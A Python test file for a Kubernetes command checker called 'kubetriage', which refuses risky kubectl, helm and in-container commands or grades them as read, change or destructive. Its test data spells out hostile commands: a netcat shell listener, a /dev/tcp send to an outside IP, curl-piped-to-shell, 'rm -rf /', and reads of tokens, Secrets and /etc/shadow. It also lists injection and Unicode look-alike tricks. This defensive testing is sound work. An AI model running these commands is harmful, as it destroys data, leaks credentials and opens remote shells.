"""Commands that would do more than they seem to: each is refused, or told for the worst it can do."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest

from kubetriage.domain.commands import checked
from kubetriage.domain.finding import Effect
from kubetriage.domain.view import ClusterView

READ, CHANGE, DESTRUCTIVE = Effect.READ, Effect.CHANGE, Effect.DESTRUCTIVE
ON_WEB = "kubectl exec web-1 -n shop -- "


@pytest.fixture
def shop(view: Callable[..., ClusterView], obj: Callable[..., dict[str, Any]]) -> ClusterView:
    """A web shop in namespace `shop`, whose Secret was never read."""
    secret = {"name": "DB", "valueFrom": {"secretKeyRef": {"name": "web-db", "key": "url"}}}
    main = {"name": "web", "image": "registry.example.com/shop/web:1.4", "env": [secret]}
    labels = {"app.kubernetes.io/instance": "storefront", "argocd.argoproj.io/instance": "shop-app"}
    template = {"spec": {"containers": [main]}}
    return view(
        obj("Pod shop/web-1", spec={"containers": [main], "nodeName": "node-1"}),
        obj("Deployment shop/web", labels=labels, spec={"replicas": 2, "template": template}),
        obj("PersistentVolumeClaim shop/data"),
        obj("Service shop/db"),
        obj("Node node-1"),
    )


@pytest.mark.parametrize(
    "command",
    [
        "k get pods -n shop",
        "alias k=kubectl",
        "env KUBECONFIG=/tmp/x kubectl get pods",
        "KUBECONFIG=/tmp/x kubectl get pods",
        "nohup kubectl delete ns shop",
        "watch -n1 kubectl delete pod web-1",
        "xargs kubectl delete",
        "command kubectl get pods",
        "sudo -u root kubectl get pods",
        "sudo bash",
        "./kubectl get pods -n shop",
        "/tmp/kubectl get pods -n shop",
        "~/bin/helm list",
        "/tmp/systemctl status kubelet",
        "kubectl.exe get pods",
        "oc get pods -n shop",
        "docker rm -f x",
        "terraform destroy",
        "aws ec2 terminate-instances",
        "kubeadm reset",
        "kubectl krew install x",
        "kubectl alpha debug web-1",
    ],
)
def test_other_programs_and_prefixes(shop: ClusterView, command: str) -> None:
    """Aliases, variables in front, wrappers, programs from somebody's folder and unknown programs are refused."""
    assert checked(command, shop).problem


@pytest.mark.parametrize(
    "command",
    [
        "kubectl get pods -n shop | xargs kubectl delete -n shop",
        "kubectl get pods -n shop|sh",
        "kubectl get pods -n shop; rm -rf /",
        "kubectl get pods -n shop || rm x",
        "kubectl get pods -n shop &rm x",
        "kubectl get pods -n shop\nrm x",
        "kubectl get pods -n shop\rrm x",
        "kubectl get pods -n shop <(rm x)",
        "kubectl get pods -n shop $'x'",
        'kubectl get pods -n shop -l "a=$(rm x)"',
        'kubectl get pods -n shop -l "a=`rm x`"',
        "kubectl get pods -n shop > ~/.bashrc",
        "\uff4bubectl get pods -n shop",
        "kube\u0441tl get pods -n shop",
        "kubectl \u0261et pods -n shop",
        "kubectl get pods \u2013n shop",
        "kubectl get \u0440ods -n shop",
        "kubectl get pods -n sho\u0440",
        "kubectl get pod web\u20101 -n shop",
        "kubectl get pods\u00a0-n shop",
        "kubectl get pods\u200b -n shop",
    ],
)
def test_shell_and_look_alikes(shop: ClusterView, command: str) -> None:
    """A shell's operators and substitutions, line breaks and letters that look like others never pass."""
    assert checked(command, shop).problem


@pytest.mark.parametrize(
    "command",
    [
        "kubectl --kubeconfig=/tmp/x get pods",
        "kubectl -shttp://192.0.2.1 get pods",
        "kubectl --user=admin get pods",
        "kubectl auth can-i delete pods --as=system:admin",
        "kubectl proxy --address=0.0.0.0 --accept-hosts=.*",
        "kubectl port-forward svc/db 5432 -n shop --address localhost,0.0.0.0",
        "kubectl apply -f http://example.org/x.yaml",
        "kubectl apply -fHTTPS://example.org/x.yaml",
        "kubectl create -f git::https://example.org/x",
        "kubectl apply -k github.com/someone/repo",
        "kubectl apply -k git@github.com:someone/repo",
        "kubectl kustomize github.com/someone/repo?ref=v1",
        "kubectl delete -f -",
        "kubectl get pods -n shop -o go-template-file=/tmp/x",
        "kubectl get pods -n shop -o jsonpath-file=/tmp/x",
        "kubectl get pods -n shop --template /tmp/x",
        "kubectl cluster-info dump --output-directory=/etc",
        'kubectl run x --image=busybox -n shop --overrides=\'{"spec":{"hostPID":true}}\'',
        "kubectl run x --image=busybox -n shop --privileged",
        "kubectl debug web-1 -n shop --image=busybox --profile=sysadmin",
        'kubectl patch deployment web -n shop -p \'{"image":"example.org/x:1"}\'',
        "kubectl patch deployment web -n shop -p 'image: example.org/x:1'",
        "kubectl patch deployment web -n shop --type=json"
        ' -p \'[{"op":"replace","path":"/spec/template/spec/containers/0/image","value":"example.org/x"}]\'',
        'kubectl patch deployment web -n shop -p \'{"securityContext":{"privileged":true}}\'',
        "kubectl set image deployment/web web=registry.example.com.example.org/x -n shop",
        "kubectl create clusterrolebinding x --clusterrole=cluster-admin --user=someone",
        "kubectl create clusterrole x --verb=* --resource=*",
        'echo \'{"kind":"Pod","apiVersion":"v1","metadata":{"name":"x","namespace":"shop"},'
        '"spec":{"containers":[{"image":"example.org/x"}]}}\' | kubectl apply -f -',
        'echo \'{"kind":"ClusterRoleBinding","metadata":{"name":"x"},'
        '"roleRef":{"name":"cluster-admin"}}\' | kubectl create -f -',
        "helm upgrade storefront oci://example.org/chart -n shop",
        "helm upgrade storefront ./chart --repo https://example.org -n shop",
        "helm -n shop ls --kube-apiserver https://192.0.2.1",
        "helm plugin install x",
        "argocd --server example.org app list",
        "argocd app create x --repo https://example.org",
        "flux bootstrap github",
        "flux get kustomizations --kubeconfig /tmp/x",
        "ssh node-1 bash",
        "ssh -J example.org node-1 uptime",
    ],
)
def test_elsewhere_and_more_rights(shop: ClusterView, command: str) -> None:
    """Other clusters, other people's files, images and charts, templates nobody sees and more rights are refused."""
    assert checked(command, shop).problem


@pytest.mark.parametrize(
    "command",
    [
        "kubectl get secrets -n shop -o yaml",
        "kubectl get secret web-db -n shop -o jsonpath={.data.url}",
        "kubectl get pods,secrets -n shop -o json",
        "kubectl get secret/web-db -n shop -o custom-columns=X:.data",
        "kubectl get pods/web-1,secrets/web-db -n shop -o yaml",
        "kubectl get pods/../secrets/web-db -n shop",
        "kubectl get --raw /api/v1/namespaces/shop/secrets?limit=5",
        "kubectl get --raw '/api/v1/namespaces/shop/%73ecrets/web-db'",
        "kubectl get --raw /api//v1/namespaces/shop/secrets",
        "kubectl get --raw /apis/../api/v1/secrets",
        "kubectl get --raw '/api/v1/namespaces/shop/pods/web-1/exec?command=rm'",
        "kubectl get --raw /api/v1/namespaces/shop/services/db:5432/proxy/x",
        "kubectl delete --raw /api/v1/namespaces/shop",
        "kubectl config view --raw",
        "kubectl set env pods --all --list --resolve -n shop",
        "kubectl cp shop/web-1:/var/run/secrets/kubernetes.io/serviceaccount/token /tmp/x",
        "kubectl cp shop/web-1:/tmp/x /root/.ssh/authorized_keys",
        ON_WEB + "cat /var/run//secrets/x",
        ON_WEB + "cat /tmp/../etc/shadow",
        ON_WEB + "cat /proc/1/environ",
        ON_WEB + "getent shadow",
        ON_WEB + "curl -K/root/.netrc http://db.shop",
        ON_WEB + "sh -c 'cat /var/run/sec*/k*/s*/token'",
        ON_WEB + "sh -c 'cat /var/run/se{crets,}/x/y'",
        ON_WEB + "sh -c 'cat < /etc/shadow'",
        ON_WEB + "sh -c 'x=secrets; cat /var/run/$x/a'",
        ON_WEB + "redis-cli config get requirepass",
        ON_WEB + "etcdctl get / --prefix",
        ON_WEB + "psql -c 'select * from pg_shadow'",
        "cat /root/.kube/config",
    ],
)
def test_credentials(shop: ClusterView, command: str) -> None:
    """The data of Secrets and files with credentials are not shown, however the way to them is written."""
    assert checked(command, shop).problem


@pytest.mark.parametrize(
    "command",
    [
        ON_WEB + "python -c 'import os'",
        ON_WEB + "awk 'BEGIN{system(\"rm -rf /\")}'",
        ON_WEB + "perl -e 1",
        ON_WEB + "crontab -r",
        ON_WEB + "nc -lvp 4444 -e /bin/sh",
        ON_WEB + "sh -c 'cat /etc/hosts > /dev/tcp/192.0.2.1/80'",
        ON_WEB + "sh -c 'kubectl delete ns shop'",
        ON_WEB + "sh -c 'curl http://db.shop/x.sh | sh -c \"$0\"'",
        ON_WEB + "sh -c 'x=rm; $x -rf /'",
        ON_WEB + "timeout -s KILL 5 /opt/x",
        ON_WEB + "openssl s_client -connect collector.example.org:443",
        ON_WEB + "psql -h collector.example.org -c 'select 1'",
        ON_WEB + "nsenter -t 1 -m -- /opt/x",
    ],
)
def test_unknown_inside_a_container(shop: ClusterView, command: str) -> None:
    """Inside a container, too, interpreters, unknown programs and other people's hosts are refused."""
    assert checked(command, shop).problem


@pytest.mark.parametrize(
    ("command", "effect"),
    [
        ("kubectl delete pods --all -n shop", DESTRUCTIVE),
        ("kubectl delete all --all -n shop", DESTRUCTIVE),
        ('kubectl d"e"lete pvc data -n shop', DESTRUCTIVE),
        ("kubectl -n shop delete persistentvolumeclaim/data", DESTRUCTIVE),
        ("kubectl delete pvc data -n shop --dry-run=client --dry-run=none", DESTRUCTIVE),
        ("kubectl delete pvc data -n shop --dry-run=false", DESTRUCTIVE),
        ("kubectl scale deploy web -n shop --replicas=00", DESTRUCTIVE),
        ("kubectl scale deploy web -n shop --replicas=0x0", DESTRUCTIVE),
        ("kubectl scale deploy web -n shop --replicas=3 --replicas=0", DESTRUCTIVE),
        ("kubectl patch deploy web -n shop -p 'spec: {replicas: 0}'", DESTRUCTIVE),
        ("kubectl debug node/node-1 -it --image=busybox -- chroot /host rm -rf /", DESTRUCTIVE),
        ("kubectl debug web-1 -n shop --image=busybox -- ls", CHANGE),
        ("kubectl run x --image=busybox -n shop -- rm -rf /", DESTRUCTIVE),
        ("kubectl cp /tmp/x shop/web-1:/tmp/x", CHANGE),
        ("kubectl exec -it web-1 -n shop -- bash", CHANGE),
        (ON_WEB + "busybox rm -rf /", DESTRUCTIVE),
        (ON_WEB + "nice -n 5 rm -rf /x", DESTRUCTIVE),
        (ON_WEB + "find / -exec rm {} +", DESTRUCTIVE),
        (ON_WEB + "iptables -n -F", DESTRUCTIVE),
        (ON_WEB + "iptables -n -L", READ),
        (ON_WEB + "sort --output=/etc/hosts /etc/hosts", CHANGE),
        (ON_WEB + "uniq a b", CHANGE),
        (ON_WEB + "curl -o /etc/hosts http://db.shop/x", CHANGE),
        (ON_WEB + "curl -XDELETE http://db.shop/x", DESTRUCTIVE),
        (ON_WEB + "wget http://db.shop/x", CHANGE),
        (ON_WEB + "wget -qO- http://db.shop/x", READ),
        (ON_WEB + "sh -c 'echo $JAVA_OPTS; ls /tmp'", READ),
        (ON_WEB + "nginx -t", READ),
        (ON_WEB + "nginx -s reload", CHANGE),
        (ON_WEB + "java -version", READ),
        (ON_WEB + "redis-cli FLUSHALL", DESTRUCTIVE),
        (ON_WEB + "redis-cli config set maxmemory 1", CHANGE),
        (ON_WEB + "redis-cli -h db.shop info memory", READ),
        (ON_WEB + "redis-cli eval x 0", CHANGE),
        (ON_WEB + "psql -U app -c 'select count(*) from orders; drop table orders'", DESTRUCTIVE),
        (ON_WEB + "psql -c 'copy orders to program x'", DESTRUCTIVE),
        (ON_WEB + "psql -f /tmp/x.sql", CHANGE),
        (ON_WEB + "psql -U app -c 'select count(*) from orders'", READ),
        (ON_WEB + "mysql -e 'show processlist'", READ),
        (ON_WEB + "mongosh --eval 'db.dropDatabase()'", DESTRUCTIVE),
        (ON_WEB + "mongosh --eval 'rs.status()'", READ),
        (ON_WEB + "mongosh --eval 'db.x.insertOne({})'", CHANGE),
        (ON_WEB + "etcdctl endpoint health", READ),
        (ON_WEB + "etcdctl del / --prefix", DESTRUCTIVE),
        (ON_WEB + "rabbitmqctl list_queues name messages", READ),
        (ON_WEB + "rabbitmqctl stop_app", CHANGE),
        ("kubectl get --raw /api/v1/nodes/node-1/proxy/stats/summary", READ),
        ("kubectl get secret web-db -n shop -o jsonpath={.metadata.creationTimestamp}", READ),
        ("kubectl describe secret web-db -n shop", READ),
        ("helm uninstall storefront -n shop --dry-run", READ),
        ("helm upgrade storefront ./chart -n shop --dry-run=none", CHANGE),
        ("argocd app delete shop-app --cascade", DESTRUCTIVE),
        ("flux uninstall", DESTRUCTIVE),
        ("openssl x509 -in /etc/kubernetes/pki/apiserver.crt -noout -dates", READ),
        ("journalctl --vacuum-size=1M", DESTRUCTIVE),
        ("sudo rm -rf /var/lib/x", DESTRUCTIVE),
    ],
)
def test_the_worst_counts(shop: ClusterView, command: str, effect: Effect) -> None:
    """What a command comes to counts, not how it begins; plain reads stay reads."""
    assert checked(command, shop) == (effect, "")


@pytest.mark.parametrize(
    "piece", ["-", "--a ", "'", "a=", "$", "/..", "x ", "-n ", "{{", "<a", "\\", "psql -c ", "*/"]
)
@pytest.mark.parametrize("start", ["kubectl get ", ON_WEB + "sh -c '", "helm ", "echo '{"])
def test_any_text_gets_an_answer(shop: ClusterView, start: str, piece: str) -> None:
    """Long and broken commands are judged at once, and nothing is raised."""
    assert isinstance(checked(start + piece * 900, shop).effect, Effect)
